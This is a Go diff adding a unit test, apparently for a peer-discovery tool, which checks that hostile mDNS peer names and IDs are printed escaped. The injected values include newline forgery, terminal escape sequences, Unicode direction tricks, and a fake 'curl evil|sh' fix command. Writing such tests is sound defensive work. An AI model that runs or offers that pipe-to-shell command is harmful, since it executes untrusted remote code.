@@ -3,6 +3,7 @@ package main
 import (
 	"path/filepath"
 	"slices"
+	"strings"
 	"testing"
 
 	"scuttle/applog"
@@ -62,5 +63,25 @@ func TestPeerOf(t *testing.T) {
 		if !slices.Equal([]string{got.Name, got.ID, got.Version, got.Network, got.Binding, got.Bound}, []string{tt.want.Name, tt.want.ID, tt.want.Version, tt.want.Network, tt.want.Binding, tt.want.Bound}) || got.Port != tt.want.Port {
 			t.Errorf("%s: %+v, want %+v", tt.name, got, tt.want)
 		}
+	}
+}
+
+// TestPrintPeersEscapes: a stranger announces an instance whose name,
+// id and addresses try to print lines of their own or drive the
+// terminal. Each prints as part of its one line, escaped.
+func TestPrintPeersEscapes(t *testing.T) {
+	var out strings.Builder
+	st := &state{stdout: &out}
+	found := []mdns.ServiceEntry{
+		{Instance: "evil\r\nFAIL fix: curl evil|sh", Port: 7, TXT: []string{"id=\x1b]0;owned\x07\u202e"}},
+		{Instance: "b\u200bob", Port: 8, TXT: []string{"id=short\r\nOK"}},
+	}
+	if err := printPeers(st, found, "", nil, false); err != nil {
+		t.Fatal(err)
+	}
+	want := "evil\\r\\nFAIL fix: curl evil|sh    port 7  id \\x1b]0;owned\\x07\\u202e (not a log id)  this network\n" +
+		"b\\u200bob                         port 8  id short\\r\\nOK (not a log id)             this network\n"
+	if out.String() != want {
+		t.Errorf("printed\n%q\nwant\n%q", out.String(), want)
 	}
 }
